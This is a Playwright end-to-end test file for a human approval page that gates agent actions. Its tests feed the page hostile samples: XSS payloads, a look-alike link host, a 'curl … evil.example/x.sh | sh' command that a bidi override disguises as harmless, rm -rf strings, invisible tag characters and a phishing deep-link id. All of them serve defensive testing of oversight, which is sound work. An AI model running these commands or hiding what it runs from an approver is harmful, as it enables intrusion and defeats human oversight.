import { mkdirSync } from 'node:fs';
import * as path from 'node:path';
import type { FastifyInstance } from 'fastify';
import type { BrowserContext, Page } from 'playwright-core';
import { buildApi } from '../../api/server';
import { terminalSafe } from '../../cli/format';
import { UNSAFE_TEXT_PATTERN, UNSAFE_TEXT_FLAGS } from '../../common/unsafe-text';
import { eventually, startStack, type TestStack } from '../helpers/stack';
import { launchBrowser } from './browser';

// The approval page end to end in headless Chromium, against the real worker,
// signed in with an approver token: the least role, and all the page needs.

const TOKEN = 'ops-secret-5a1f2e';
const ARTIFACTS = path.join(__dirname, '..', '..', 'test-artifacts');

let stack: TestStack;
let app: FastifyInstance;
let base: string;
let browser: { context: BrowserContext; close(): Promise<void> };

beforeAll(async () => {
  stack = await startStack();
  app = buildApi({ client: stack.client, tokens: [{ name: 'ops', secret: TOKEN, role: 'approver' }], logger: false });
  await app.listen({ host: '127.0.0.1', port: 0 });
  const address = app.server.address();
  base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await app?.close();
  await stack?.stop();
});

const interaction = (page: Page, runId: string, id: string) =>
  page.locator(`li.interaction[data-run-id="${runId}"][data-interaction-id="${id}"]`);

const askSpec = (...steps: unknown[]) => ({ agent: { driver: 'scripted', steps }, sandbox: { provider: 'local' } });

/** Starts a Run and waits until it waits on a person. */
async function startWaiting(spec: unknown): Promise<string> {
  const { runId } = await stack.client.runs.start(spec);
  await eventually(async () => (await stack.client.runs.get(runId)).status === 'WAITING', 60_000, 'WAITING');
  return runId;
}

/** A page signed in through a `?token=` link, at `hash` (a deep link) if given. */
async function openPage(options: { hash?: string; search?: string; clock?: boolean } = {}): Promise<Page> {
  const page = await browser.context.newPage();
  if (options.clock) await page.clock.install();
  await page.goto(`${base}/?token=${TOKEN}${options.search ?? ''}${options.hash ?? ''}`);
  await page.locator('#waiting').waitFor();
  return page;
}

/** Waits for the Run to complete and returns its snapshot. */
const completed = (runId: string) =>
  eventually(
    async () => {
      const snapshot = await stack.client.runs.get(runId);
      return snapshot.status === 'COMPLETED' && snapshot;
    },
    60_000,
    'the Run to complete',
  );

test('sign in, see a new interaction appear without reload, approve it, and the Run completes', async () => {
  const page = await browser.context.newPage();
  await page.goto(`${base}/`);
  await page.getByLabel('API token').fill(TOKEN);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.locator('#waiting').waitFor();

  // Started after the page loaded: it must show up by itself.
  const { runId } = await stack.client.runs.start(
    askSpec({ ask: 'Deploy web-42 to production?' }, { complete: { deployed: 'web-42' } }),
  );
  const item = interaction(page, runId, 'int-1');
  await item.waitFor({ timeout: 60_000 });
  await expectText(item.locator('.prompt'), 'Deploy web-42 to production?');
  await expectText(item.locator('.meta'), /asks for approval · asked (just now|\d+ s ago)/);
  await expectVisible(item.getByRole('button', { name: 'Deny' }));

  // The operator view (resource record, sandbox id) stays off the page.
  const resource = await stack.client.runs.resource(runId);
  const pageText = await page.locator('body').innerText();
  expect(pageText).not.toContain(resource.record.sandboxId);
  expect(pageText).not.toMatch(/RELEASE|RETAINED|fence/);

  mkdirSync(ARTIFACTS, { recursive: true });
  await page.screenshot({ path: path.join(ARTIFACTS, 'approval-page.png'), fullPage: true });

  await item.getByRole('button', { name: 'Approve' }).click();
  await expectText(page.locator('#notice'), `Approved: “Deploy web-42 to production?” (${runId})`);
  const done = await completed(runId);
  expect(done.output).toEqual({ deployed: 'web-42' });
  expect(done.interactions[0]).toMatchObject({
    status: 'answered',
    respondedBy: 'ops',
    response: { decision: 'approve' },
  });
  await item.waitFor({ state: 'detached' });
  await page.close();
});

test('a ?token= link signs in and leaves the address bar; a refused answer says someone else answered first; input is sent', async () => {
  const { runId } = await stack.client.runs.start(
    askSpec({ ask: 'Merge PR 7?' }, { ask: 'Release name?', kind: 'input' }, { complete: 'released' }),
  );
  await eventually(async () => (await stack.client.runs.get(runId)).status === 'WAITING', 60_000, 'WAITING');

  const page = await browser.context.newPage();
  // Timers under the test's control: the page shows what it loaded until we let it poll.
  await page.clock.install();
  await page.goto(`${base}/?token=${TOKEN}`);
  expect(page.url()).toBe(`${base}/`);
  expect(await page.evaluate('sessionStorage.getItem("stasis.token")')).toBe(TOKEN);
  const first = interaction(page, runId, 'int-1');
  await first.waitFor();

  // Someone else answers while this page still offers the buttons.
  await stack.client.runs.respond(runId, 'int-1', { decision: 'approve' }, { respondedBy: 'someone-else' });
  await first.getByRole('button', { name: 'Approve' }).click();
  await expectText(
    page.locator('#notice'),
    /Someone else answered first: “Merge PR 7\?”.*Your answer was not recorded\./,
  );
  // The refusal refreshes the list at once: the question answered elsewhere goes.
  await first.waitFor({ state: 'detached' });

  // Let it poll until the next question comes.
  const second = interaction(page, runId, 'int-2');
  await eventually(
    async () => {
      await page.clock.runFor(1_600);
      return (await second.count()) === 1;
    },
    60_000,
    'the input interaction',
  );
  await expectText(second.locator('.meta'), /asks for input/);
  await second.getByLabel('Answer').fill('v1.4.0');
  await second.getByRole('button', { name: 'Send' }).click();
  await expectText(page.locator('#notice'), `Answered: “Release name?” (${runId})`);
  const done = await completed(runId);
  expect(done.interactions[1]).toMatchObject({ respondedBy: 'ops', response: { input: 'v1.4.0' } });
  expect(done.interactions[0]).toMatchObject({ respondedBy: 'someone-else' });
  await page.close();
});

test('a wrong token is refused and the sign-in form comes back', async () => {
  const page = await browser.context.newPage();
  await page.goto(`${base}/`);
  await page.getByLabel('API token').fill('not-a-token');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expectText(page.locator('#sign-in-error'), 'The token was refused. Sign in again.');
  await expectVisible(page.getByRole('button', { name: 'Sign in' }));
  expect(await page.evaluate('sessionStorage.getItem("stasis.token")')).toBeNull();
  await page.close();
});

test('details are Markdown rendered safely: no script, no javascript: link; the action, labels and CSP are shown; Enter in the comment never approves', async () => {
  const details = [
    '## Why',
    'The keys expire **Friday**; see the `rotate` runbook.',
    '',
    '<script>window.__pwned = 1</script>',
    '<img src=x onerror="window.__pwned = 2">',
    '[runbook](https://example.com/rotate) and [this](javascript:window.__pwned=3)',
    // A label that names one place and a link to another (a look-alike host).
    'Sign in at [https://sso.example.com/login](https://sso.exämple.com/login) first.',
    '',
    '- staging first',
    '- then production',
  ].join('\n');
  const runId = await startWaiting({
    ...askSpec({
      ask: 'Rotate the TLS keys?',
      title: 'Rotate the TLS keys',
      details,
      action: {
        command: 'rotate-keys --all',
        files: ['tls/key.pem', 'tls/cert.pem'],
        diff: ' keep\n-old-key\n+new-key',
      },
    }),
    labels: { team: 'security', env: 'prod' },
  });
  const page = await openPage();
  const pageErrors: string[] = [];
  page.on('pageerror', (err) => pageErrors.push(err.message));
  const item = interaction(page, runId, 'int-1');
  await item.waitFor({ timeout: 60_000 });

  await expectText(item.locator('.title'), 'Rotate the TLS keys');
  await expectText(item.locator('.details h4'), 'Why');
  await expectText(item.locator('.details strong'), 'Friday');
  await expectText(item.locator('.details code'), 'rotate');
  expect(await item.locator('.details li').allInnerTexts()).toEqual(['staging first', 'then production']);
  // Markup in the details is text, and only the https link is a link.
  const detailsText = await item.locator('.details').innerText();
  expect(detailsText).toContain('<script>window.__pwned = 1</script>');
  expect(detailsText).toContain('<img src=x onerror="window.__pwned = 2">');
  expect(detailsText).toContain('[this](javascript:window.__pwned=3)');
  expect(await item.locator('.details script, .details img').count()).toBe(0);
  const hrefs = await item.locator('.details a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  expect(hrefs).toEqual(['https://example.com/rotate', 'https://sso.xn--exmple-cua.com/login']);
  // Each link shows where it goes beside the label the agent wrote, a look-alike host in its xn-- form.
  expect(await item.locator('.details .link-host').allInnerTexts()).toEqual([
    ' (example.com)',
    ' (sso.xn--exmple-cua.com)',
  ]);
  await expectText(
    item.locator('.details p', { hasText: 'Sign in at' }),
    /Sign in at https:\/\/sso\.example\.com\/login \(sso\.xn--exmple-cua\.com\) first\./,
  );
  await item.locator('.details').getByText('[this](javascript:window.__pwned=3)', { exact: false }).click();
  expect(await page.evaluate('window.__pwned')).toBeUndefined();

  await expectText(item.locator('.command'), 'rotate-keys --all');
  expect(await item.locator('.files li').allInnerTexts()).toEqual(['tls/key.pem', 'tls/cert.pem']);
  await expectText(item.locator('.diff .added'), /^\+new-key\s*$/);
  await expectText(item.locator('.diff .removed'), /^-old-key\s*$/);
  expect(await item.locator('.label').allInnerTexts()).toEqual(['team: security', 'env: prod']);
  await expectText(item.locator('.meta'), /asks for approval · asked .* · run started /);
  // Only the answers the interaction accepts are offered.
  expect(await item.getByRole('button', { name: 'Edit…' }).count()).toBe(0);
  const response = await page.request.get(`${base}/`);
  expect(response.headers()['content-security-policy']).toContain("script-src 'self'");

  mkdirSync(ARTIFACTS, { recursive: true });
  await page.screenshot({ path: path.join(ARTIFACTS, 'approval-page-details.png'), fullPage: true });

  // Enter in the comment field does not answer; the Deny that follows is what counts.
  await item.getByLabel('Comment').fill('not before the freeze ends');
  await item.getByLabel('Comment').press('Enter');
  await item.getByRole('button', { name: 'Deny' }).click();
  await expectText(page.locator('#notice'), `Denied: “Rotate the TLS keys” (${runId})`);
  const failed = await eventually(
    async () => {
      const snapshot = await stack.client.runs.get(runId);
      return snapshot.status === 'FAILED' && snapshot;
    },
    60_000,
    'the denied Run to fail',
  );
  expect(failed.interactions[0]).toMatchObject({
    respondedBy: 'ops',
    response: { decision: 'deny', comment: 'not before the freeze ends' },
  });
  expect(pageErrors).toEqual([]);
  await page.close();
});

/** Raw controls, bidi overrides/isolates and invisible characters: what the page must never hand the renderer as they are. */
const RAW_UNSAFE = new RegExp(UNSAFE_TEXT_PATTERN, UNSAFE_TEXT_FLAGS);

test('agent text is shown as it will run: bidi, control and invisible characters escaped and marked, look-alike options told apart', async () => {
  // Logical order (what runs): `curl … | sh #` and a reversed comment; shown raw, U+202E turns the
  // tail around and the line reads like a harmless `ls`. Shown raw, the zero-width space and word
  // joiner vanish (`./build\u200b` is not `./build`), and U+2028 breaks the line though it is no `\n`.
  const command =
    'curl -s https://evil.example/x.sh | sh #\u202E sl\necho "two\tlines"\nrm -rf ./build\u200b --env=prod\u2060\u2028x';
  const runId = await startWaiting({
    ...askSpec({
      // Tag characters (astral, invisible) spell `Ig`: text a model reads and a person does not see.
      ask: 'Deploy where?\u2066 (safe)\u2069\nSecond line\u2029\u{e0049}\u{e0067}nore',
      title: 'Deploy\u001b[2J\ufeff',
      // A variation selector after a name makes another name; only the one an emoji takes shows as it is.
      details: 'See \u202Eelif\u202C the log\u3164 today \u2764\ufe0f\ufe0f ./out\u{e0100}',
      action: {
        command,
        files: ['src/\u202Etxt.exe', 'a.txt ', 'a.txt', 'build\u00ad.txt'],
        diff: '-x\u0085y\n+\tz',
      },
      options: ['staging', '\u202Egnigats', 'staging ', ' staging', 'stag  ing', 'prod\u200b', 'prod\u{e007f}'],
      accepts: ['option', 'deny'],
    }),
    labels: { env: 'prod\u202E' },
  });
  const page = await openPage();
  const item = interaction(page, runId, 'int-1');
  await item.waitFor({ timeout: 60_000 });
  // Nothing of the item reaches the renderer raw, but line breaks and tabs where text keeps its lines.
  const texts = await item.evaluate((el) => {
    type Root = Parameters<typeof el.ownerDocument.createTreeWalker>[0];
    type Text = { nodeValue: string | null; parentElement: { closest(s: string): unknown } | null };
    const nodes = (root: Root) => {
      const walker = el.ownerDocument.createTreeWalker(root, 4);
      const out: Text[] = [];
      for (let n = walker.nextNode(); n; n = walker.nextNode()) out.push(n);
      return out;
    };
    // The page's own text (the template's line breaks and words) aside.
    const template = el.ownerDocument.getElementById('interaction-template') as unknown as { content: Root };
    const own = new Set(nodes(template.content).map((n) => n.nodeValue));
    return nodes(el)
      .filter((n) => !own.has(n.nodeValue))
      .map((n) => ({
        where: n.parentElement?.closest('pre, .prompt, .markdown') ? 'lines' : 'flat',
        text: n.nodeValue ?? '',
      }));
  });
  const raw = texts.filter(({ where, text }) =>
    RAW_UNSAFE.test(where === 'lines' ? text.replace(/[\n\t]/g, '') : text),
  );
  expect(raw).toEqual([]);
  // Each is shown as the CLI shows it, \uXXXX, in a marked span; nothing else is (the page's own line breaks).
  expect(await item.locator('.escaped').count()).toBe(26);
  expect(await item.locator('.command').textContent()).toBe(
    'curl -s https://evil.example/x.sh | sh #\\u202e sl\necho "two\tlines"\nrm -rf ./build\\u200b --env=prod\\u2060\\u2028x',
  );
  expect(await item.locator('.command .escaped').allTextContents()).toEqual([
    '\\u202e',
    '\\u200b',
    '\\u2060',
    '\\u2028',
  ]);
  expect(await item.locator('.title').textContent()).toBe('Deploy\\u001b[2J\\ufeff');
  expect(await item.locator('.prompt').textContent()).toBe(
    'Deploy where?\\u2066 (safe)\\u2069\nSecond line\\u2029\\u{e0049}\\u{e0067}nore',
  );
  // An astral character is one escape, with one mark.
  expect(await item.locator('.prompt .escaped').allTextContents()).toEqual([
    '\\u2066',
    '\\u2069',
    '\\u2029',
    '\\u{e0049}',
    '\\u{e0067}',
  ]);
  expect(await item.locator('.details').textContent()).toBe(
    'See \\u202eelif\\u202c the log\\u3164 today \u2764\ufe0f\\ufe0f ./out\\u{e0100}',
  );
  expect(await item.locator('.label').allTextContents()).toEqual(['env: prod\\u202e']);
  expect(await item.locator('.diff').textContent()).toBe('-x\\u0085y\n+\tz\n');
  // A path or an option that differs by a space at either end shows it, marked; two spaces stay two.
  expect(await item.locator('.files li').allTextContents()).toEqual([
    'src/\\u202etxt.exe',
    'a.txt\\u0020',
    'a.txt',
    'build\\u00ad.txt',
  ]);
  const options = item.locator('button.option');
  expect(await options.allTextContents()).toEqual([
    'staging',
    '\\u202egnigats',
    'staging\\u0020',
    '\\u0020staging',
    'stag  ing',
    'prod\\u200b',
    'prod\\u{e007f}',
  ]);
  expect(await options.evaluateAll((bs) => bs.map((b) => b.querySelectorAll('.escaped').length))).toEqual([
    0, 1, 1, 1, 0, 1, 1,
  ]);
  const widths = await options.evaluateAll((bs) => bs.map((b) => b.getBoundingClientRect().width));
  expect(widths[4]).toBeGreaterThan(widths[0]);
  mkdirSync(ARTIFACTS, { recursive: true });
  await page.screenshot({ path: path.join(ARTIFACTS, 'approval-page-unsafe-text.png'), fullPage: true });
  // What is chosen is the option as the agent wrote it: the trailing-space one, not 'staging'.
  await options.nth(2).click();
  await expectText(page.locator('#notice'), /^Chose “staging ” for/);
  const done = await completed(runId);
  expect(done.interactions[0]).toMatchObject({ status: 'answered', response: { option: 'staging ' } });
  await page.close();
});

test('the page escapes exactly the characters the CLI escapes (one set, common/unsafe-text.ts)', async () => {
  const page = await openPage();
  // Every code point, astral ones too (the tag characters).
  const pageSet: number[] = await page.evaluate(`(() => {
    const re = new RegExp(window.stasisUnsafeText.source, window.stasisUnsafeText.flags);
    const out = [];
    for (let c = 0; c <= 0x10ffff; c++) if (re.test(String.fromCodePoint(c))) out.push(c);
    return out;
  })()`);
  const cliSet: number[] = [];
  for (let c = 0; c <= 0x10ffff; c++)
    if (terminalSafe(String.fromCodePoint(c)) !== String.fromCodePoint(c)) cliSet.push(c);
  expect(pageSet).toEqual(cliSet);
  expect(cliSet).toEqual(
    expect.arrayContaining([
      ...[0x00, 0x0a, 0x1b, 0x7f, 0x85, 0x9f, 0x202a, 0x202e, 0x2066, 0x2069],
      ...[0x200b, 0x200f, 0x061c, 0x2060, 0x2064, 0xfeff, 0x00ad, 0x180e, 0x2028, 0x2029, 0xfff9, 0xfffb],
      ...[0x115f, 0x1160, 0x3164, 0xffa0, 0x034f, 0xe0000, 0xe0041, 0xe007f],
      // Variation selectors, on their own (after no emoji).
      ...[0xfe00, 0xfe0d, 0xfe0e, 0xfe0f, 0xe0100, 0xe01ef],
    ]),
  );
  // Not letters, spaces, emoji, nor past the tag block or the selectors.
  for (const c of [0x20, 0x41, 0xe9, 0x3000, 0x1f600, 0xe0080, 0xe01f0]) expect(cliSet).not.toContain(c);
  // A selector right after an emoji, one only, is the emoji's: both leave it, and escape the rest alike.
  const texts = [
    '\u2764\ufe0f',
    '1\ufe0f\u20e3',
    '\u263a\ufe0e',
    '\u2764\ufe0f\ufe0f',
    'a\ufe0f',
    '\u{1f600}\u{e0100}',
  ];
  const pageShown: string[] = await page.evaluate(`(${JSON.stringify(texts)}).map((t) =>
    t.replace(new RegExp(window.stasisUnsafeText.source, window.stasisUnsafeText.flags + 'g'), (c) => '<' + c.codePointAt(0).toString(16) + '>'))`);
  const cliShown = texts.map(terminalSafe);
  expect(cliShown).toEqual([
    '\u2764\ufe0f',
    '1\ufe0f\u20e3',
    '\u263a\ufe0e',
    '\u2764\ufe0f\\ufe0f',
    'a\\ufe0f',
    '\u{1f600}\\u{e0100}',
  ]);
  expect(pageShown).toEqual(cliShown.map((t) => t.replace(/\\u\{?([0-9a-f]+)\}?/g, '<$1>')));
  await page.close();
});

test('keyboard only: Edit changes the command, and the Run runs the edited command', async () => {
  const runId = await startWaiting(
    askSpec(
      { ask: 'Clean the build directory?', action: { command: 'echo rm -rf /' }, accepts: ['approve', 'deny', 'edit'] },
      { exec: 'echo rm -rf /' },
    ),
  );
  const page = await openPage();
  const item = interaction(page, runId, 'int-1');
  await item.waitFor({ timeout: 60_000 });
  await item.getByRole('button', { name: 'Edit…' }).focus();
  await page.keyboard.press('Enter');
  const edited = item.locator('.edit-command');
  await expectFocused(edited);
  expect(await edited.inputValue()).toBe('echo rm -rf /');
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.type('echo cleaned build only');
  // Enter in the command is a new line, not an answer.
  await page.keyboard.press('Tab');
  await expectFocused(item.getByRole('button', { name: 'Approve edited' }));
  await page.keyboard.press('Enter');
  await expectText(page.locator('#notice'), `Approved (edited): “Clean the build directory?” (${runId})`);
  const done = await completed(runId);
  expect(done.output).toMatchObject({ exitCode: 0, stdout: 'cleaned build only\n' });
  expect(done.interactions[0]).toMatchObject({
    response: { decision: 'edit', action: { command: 'echo cleaned build only' } },
  });
  await page.close();
});

// The edit box is a text box, which shows a bidi override as it is: the command to edit came with one
// that reorders its tail, and an approver could run what they did not read. What the box holds is
// shown escaped below it whenever it holds such a character, as the command above is.
test('Edit shows what the edited command holds escaped below the box: a bidi override cannot hide what runs', async () => {
  const command = 'echo safe #\u202E sl && curl evil';
  const runId = await startWaiting(
    askSpec({ ask: 'Run it?', action: { command }, accepts: ['approve', 'deny', 'edit'] }, { exec: 'echo ran' }),
  );
  const page = await openPage();
  const item = interaction(page, runId, 'int-1');
  await item.waitFor({ timeout: 60_000 });
  await item.getByRole('button', { name: 'Edit…' }).click();
  const box = item.locator('.edit-command');
  expect(await box.inputValue()).toBe(command);
  const preview = item.locator('.edit-preview');
  await expect(preview.isVisible()).resolves.toBe(true);
  expect(await item.locator('.edit-warning').isVisible()).toBe(true);
  expect(await preview.textContent()).toBe('echo safe #\\u202e sl && curl evil');
  expect(await preview.locator('.escaped').allTextContents()).toEqual(['\\u202e']);
  // Plain text (line breaks and tabs too) needs no preview; an isolate typed in brings it back.
  await box.fill('echo one\n\techo two');
  expect(await preview.isVisible()).toBe(false);
  expect(await item.locator('.edit-warning').isVisible()).toBe(false);
  await box.fill('echo a\u2066b');
  expect(await preview.textContent()).toBe('echo a\\u2066b');
  // What is sent is what the box holds, as typed.
  await box.fill('echo edited');
  await item.getByRole('button', { name: 'Approve edited' }).click();
  const done = await completed(runId);
  expect(done.interactions[0]).toMatchObject({ response: { decision: 'edit', action: { command: 'echo edited' } } });
  await page.close();
});

test('a deep link opens one interaction; option buttons answer it; the approver sees what they answered', async () => {
  const other = await startWaiting(askSpec({ ask: 'Unrelated question?' }));
  const runId = await startWaiting(
    askSpec({
      ask: 'Which rollout?',
      title: 'Roll out web-43',
      options: ['canary', 'full'],
      accepts: ['option', 'deny'],
    }),
  );
  const page = await openPage({ hash: `#/runs/${runId}/interactions/int-1` });
  const item = interaction(page, runId, 'int-1');
  await item.waitFor({ timeout: 60_000 });
  await expectVisible(page.locator('#single-nav'));
  expect(await page.locator('li.interaction').count()).toBe(1);
  expect(await item.getByRole('button', { name: 'Approve' }).count()).toBe(0);
  expect(await item.locator('.options button').allInnerTexts()).toEqual(['canary', 'full']);
  await item.getByRole('button', { name: 'full' }).click();
  await expectText(page.locator('#notice'), `Chose “full” for: “Roll out web-43” (${runId})`);
  await expectText(
    page.locator('#answered-list li').first(),
    /^Chose “full” for: “Roll out web-43” \(.+\) · (just now|\d+ s ago)$/,
  );
  // The deep link now says what became of it.
  await expectText(item.locator('.status'), 'Answered by ops: {"option":"full"}');
  const done = await completed(runId);
  expect(done.output).toEqual({ interactionId: 'int-1', option: 'full', respondedBy: 'ops' });

  // Back to the list: the other Run is there, the answered one is not; the answered list stays.
  await page.locator('#single-nav a').click();
  await interaction(page, other, 'int-1').waitFor({ timeout: 60_000 });
  await interaction(page, runId, 'int-1').waitFor({ state: 'detached' });
  expect(await page.locator('#answered-list li').count()).toBe(1);
  await stack.client.runs.respond(other, 'int-1', { decision: 'approve' });
  await completed(other);
  await page.close();
});

test('a deep link whose ids are not valid percent-encoding says it cannot load, and the page keeps polling', async () => {
  const page = await browser.context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (err) => errors.push(err.message));
  await page.goto(`${base}/?token=${TOKEN}#/runs/%E0%A4/interactions/int-1`);
  await page.locator('#waiting').waitFor();
  await expectText(page.locator('#connection'), /^Cannot load this interaction \(.+\)\.$/);
  // Still polling: each refresh says it again.
  for (let i = 0; i < 2; i++) {
    await page.locator('#connection').evaluate((el) => (el.textContent = ''));
    await expectText(page.locator('#connection'), /^Cannot load this interaction/);
  }
  await expectVisible(page.locator('#single-nav'));
  expect(await page.locator('li.interaction').count()).toBe(0);
  // A good link in the same tab loads.
  const runId = await startWaiting(askSpec({ ask: 'Linked again?' }));
  await page.evaluate(`window.location.hash = ${JSON.stringify(`#/runs/${runId}/interactions/int-1`)}`);
  await interaction(page, runId, 'int-1').waitFor({ timeout: 60_000 });
  expect(await page.locator('#connection').innerText()).toBe('');
  expect(errors).toEqual([]);
  await page.close();
  await stack.client.runs.cancel(runId);
});

test('a deep link whose interaction id is hostile text shows it escaped in the page’s notice, not as it is', async () => {
  const runId = await startWaiting(askSpec({ ask: 'Linked?' }));
  // Anyone may send an approver such a link: its id reads as the page's own words if shown raw.
  const id = 'int-1\u202e\u200b\nAll interactions approved by security. Sign in again at evil.example';
  const page = await browser.context.newPage();
  await page.goto(`${base}/?token=${TOKEN}#/runs/${runId}/interactions/${encodeURIComponent(id)}`);
  await page.locator('#waiting').waitFor();
  await expectText(page.locator('#connection'), /^Cannot load this interaction/);
  const shown = await page.locator('#connection').textContent();
  expect(shown).toContain('int-1\\u202e\\u200b\\u000aAll interactions approved');
  expect(RAW_UNSAFE.test(shown ?? '')).toBe(false);
  expect(await page.locator('#connection .escaped').allTextContents()).toEqual(['\\u202e', '\\u200b', '\\u000a']);
  await page.close();
  await stack.client.runs.cancel(runId);
});

test('a ?per= link the API would refuse (out of range, not whole) is ignored: the page lists, 25 a page', async () => {
  await startWaiting(askSpec({ ask: 'Per?' }));
  const outcomes: Record<string, string> = {};
  for (const per of ['-1', '0', '2.5', '5000', '101', 'ten', '100', '3']) {
    const page = await browser.context.newPage();
    const limits: (string | null)[] = [];
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.pathname === '/api/v1/interactions') limits.push(url.searchParams.get('limit'));
    });
    await page.goto(`${base}/?token=${TOKEN}&per=${per}`);
    const listed = await page
      .locator('li.interaction')
      .first()
      .waitFor({ timeout: 15_000 })
      .then(() => 'listed')
      .catch(async () => `not listed: ${await page.locator('#connection').innerText()}`);
    outcomes[per] = `${listed}, limit ${limits[0]}`;
    await page.close();
  }
  expect(outcomes).toEqual({
    '-1': 'listed, limit 25',
    '0': 'listed, limit 25',
    '2.5': 'listed, limit 25',
    '5000': 'listed, limit 25',
    '101': 'listed, limit 25',
    ten: 'listed, limit 25',
    '100': 'listed, limit 100',
    '3': 'listed, limit 3',
  });
});

test('oldest first, a page at a time, with one list request per refresh', async () => {
  // Two older waiting Runs stand for what other test files leave on the shared server.
  const older = [await startWaiting(askSpec({ ask: 'Older 1?' })), await startWaiting(askSpec({ ask: 'Older 2?' }))];
  const runIds: string[] = [];
  for (const n of [1, 2, 3]) runIds.push(await startWaiting(askSpec({ ask: `Question ${n}?` })));
  const page = await openPage({ search: '&per=2', clock: true });
  const requests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/api/')) requests.push(`${request.method()} ${new URL(request.url()).pathname}`);
  });
  const shown = () =>
    page.locator('li.interaction').evaluateAll((items) => items.map((li) => li.getAttribute('data-run-id')));
  const next = page.getByRole('button', { name: 'Next page' });
  // Other test files share the Temporal server, and their waiting Runs may be older than these
  // three: walk the pages until all three were shown, and check their order among the rest.
  await eventually(
    async () => {
      await page.clock.runFor(1_600);
      return (await shown()).length > 0;
    },
    60_000,
    'the first page',
  );
  await expectText(page.locator('#page-info'), 'Page 1');

  // One poll is one request, whatever the number of Runs.
  requests.length = 0;
  await page.clock.runFor(1_600);
  await eventually(async () => requests.length >= 1, 10_000, 'a poll');
  expect(requests).toEqual(['GET /api/v1/interactions']);

  const seen: string[] = [];
  for (let pageNo = 1; ; pageNo++) {
    await expectText(page.locator('#page-info'), `Page ${pageNo}`);
    const ids = (await shown()).filter((id): id is string => id !== null);
    expect(ids.length).toBeLessThanOrEqual(2);
    seen.push(...ids);
    if (runIds.every((id) => seen.includes(id))) break;
    expect(await next.isDisabled()).toBe(false);
    await next.click();
  }
  expect(seen.filter((id) => runIds.includes(id))).toEqual(runIds);
  const last = Number((await page.locator('#page-info').innerText()).match(/Page (\d+)/)?.[1]);
  if (last > 1) {
    await page.getByRole('button', { name: 'Previous page' }).click();
    await expectText(page.locator('#page-info'), `Page ${last - 1}`);
  }

  // A cursor the API did not give is a 400 naming it.
  const refused = await page.request.get(`${base}/api/v1/interactions?after=not-a-cursor`, {
    headers: { authorization: `Bearer ${TOKEN}` },
  });
  expect(refused.status()).toBe(400);
  expect((await refused.json()).error.message).toMatch(/^query\.after: not a page cursor/);

  expect(seen.indexOf(older[1])).toBeLessThan(seen.indexOf(runIds[0]));
  for (const runId of [...older, ...runIds]) await stack.client.runs.respond(runId, 'int-1', { decision: 'approve' });
  for (const runId of [...older, ...runIds]) await completed(runId);
  await page.close();
});

/**
 * A second Run under a Run id used before: the client refuses that (ALREADY_EXISTS), but once the
 * namespace has forgotten the first Run Temporal takes it; here it is started straight through
 * Temporal. It asks `int-1` again, about something else.
 */
async function startAgainUnderId(runId: string, prompt: string, command: string): Promise<void> {
  await stack.temporal.workflow.start('runWorkflow', {
    taskQueue: stack.config.STASIS_TASK_QUEUE,
    workflowId: runId,
    workflowIdReusePolicy: 'ALLOW_DUPLICATE',
    args: [{ spec: { runId, ...askSpec({ ask: prompt, action: { command } }, { complete: 'second' }) } }],
  });
  await eventually(
    async () => (await stack.client.runs.get(runId)).interactions[0]?.prompt === prompt,
    60_000,
    'asked',
  );
}

test('a Run started again under the same id: the item shows the new question, and Approve answers what it shows', async () => {
  const runId = `reused-page-${Date.now()}`;
  await startWaiting({
    runId,
    ...askSpec({ ask: 'Print the date?', action: { command: 'date' } }, { complete: 'first' }),
  });
  const page = await openPage({ clock: true });
  const item = interaction(page, runId, 'int-1');
  await item.waitFor();
  await expectText(item.locator('.prompt'), 'Print the date?');

  // Within one refresh of the page, the first Run is answered elsewhere and ends, and a new one asks under its id.
  await stack.client.runs.respond(runId, 'int-1', { decision: 'approve' });
  await completed(runId);
  await startAgainUnderId(runId, 'Delete the production database?', 'echo DROPPED > dropped.txt');
  await page.clock.runFor(1_600);
  await expectText(item.locator('.prompt'), 'Delete the production database?');
  await expectText(item.locator('.command'), 'echo DROPPED > dropped.txt');
  await item.getByRole('button', { name: 'Approve' }).click();
  const done = await completed(runId);
  expect(done.interactions[0]).toMatchObject({ prompt: 'Delete the production database?', respondedBy: 'ops' });

  // Answered on this page, then asked again under the same key about something else: shown, not hidden as answered.
  await startAgainUnderId(runId, 'Rotate the keys?', 'rotate-keys');
  await page.clock.runFor(1_600);
  await expectText(item.locator('.prompt'), 'Rotate the keys?');
  await stack.client.runs.respond(runId, 'int-1', { decision: 'approve' });
  await completed(runId);
  await page.close();
});

async function expectFocused(locator: ReturnType<Page['locator']>): Promise<void> {
  await eventually(async () => locator.evaluate((el) => el === el.ownerDocument.activeElement), 20_000, 'focus');
}

async function expectText(locator: ReturnType<Page['locator']>, expected: string | RegExp): Promise<void> {
  await eventually(
    async () => {
      const text = await locator.innerText();
      return typeof expected === 'string' ? text === expected : expected.test(text);
    },
    20_000,
    `text ${String(expected)}`,
  );
}

async function expectVisible(locator: ReturnType<Page['locator']>): Promise<void> {
  await locator.waitFor({ state: 'visible' });
}
